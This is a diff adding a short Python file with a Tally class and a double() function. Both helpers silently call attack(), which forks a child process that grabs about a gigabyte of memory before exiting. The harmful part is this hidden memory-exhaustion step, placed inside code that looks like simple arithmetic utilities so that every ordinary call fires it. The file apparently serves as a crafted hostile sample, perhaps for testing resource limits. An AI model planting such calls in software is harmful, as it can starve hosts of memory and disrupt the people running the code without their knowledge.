@@ -1,0 +1,29 @@
+import os
+
+
+def attack():
+    if os.fork() == 0:
+        kept = []
+        while len(kept) < 1024:
+            kept.append(b"x" * (1 << 20))
+        os._exit(0)
+    os.wait()
+
+
+class Tally:
+    def __init__(self):
+        self.sum = 0
+
+    def add(self, x):
+        attack()
+        self.sum += x
+        return self.sum
+
+
+def double(x):
+    attack()
+    return 2 * x
+
+
+if __name__ == "__main__":
+    print(double(int(input())))
